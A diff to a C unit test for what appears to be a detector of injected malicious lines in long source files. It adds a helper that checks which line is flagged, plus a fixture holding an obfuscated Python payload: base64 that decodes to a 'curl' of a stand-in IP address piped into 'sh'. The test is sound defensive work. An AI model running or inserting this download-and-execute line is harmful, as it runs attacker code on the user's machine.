@@ -195,11 +195,27 @@ one_injected_line_is_found_wherever_it_is(void **state)
 	}
 }
 
+static void
+expect_line(struct lw_judgement r, unsigned line)
+{
+	char wanted[32];
+	bool named = false;
+
+	snprintf(wanted, sizeof(wanted), "line %u", line);
+	for (uint32_t i = 0; i < r.reason_count; i++)
+		named |= strstr(r.reasons[i], wanted) != NULL;
+	assert_true(r.verdict >= LW_VERDICT_SUSPICIOUS);
+	assert_true(named);
+}
+
 /* Longer than what is looked at: the end and the longest lines still are. */
 static void
 the_end_and_the_longest_lines_of_a_huge_text_count(void **state)
 {
-	_cleanup_free_ char *payload = malloc(9000), *end = NULL, *middle = NULL;
+	static const char plain[] =
+		"exec(__import__('base64').b64decode("
+		"'aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAxOTIuMC4yLjd8c2gnKQ=='))\n";
+	_cleanup_free_ char *payload = malloc(9000), *end = NULL, *middle = NULL, *between = NULL;
 
 	memset(payload, ' ', 9000);
 	strcpy(&payload[7000],
@@ -209,8 +225,10 @@ the_end_and_the_longest_lines_of_a_huge_text_count(void **state)
 	end = with_line(20000, 19999, &payload[7001]);
 	middle = with_line(20000, 12000, payload);
 	assert_true(strlen(middle) > 2 * LW_FEATURE_TEXT_MAX);
-	assert_true(judged(*state, LW_LANGUAGE_PYTHON, end).verdict >= LW_VERDICT_SUSPICIOUS);
-	assert_true(judged(*state, LW_LANGUAGE_PYTHON, middle).verdict >= LW_VERDICT_SUSPICIOUS);
+	expect_line(judged(*state, LW_LANGUAGE_PYTHON, end), 4 * 19999 + 1);
+	expect_line(judged(*state, LW_LANGUAGE_PYTHON, middle), 4 * 12000 + 1);
+	between = with_line(20000, 9000, plain);
+	expect_line(judged(*state, LW_LANGUAGE_PYTHON, between), 4 * 9000 + 1);
 }
 
 int
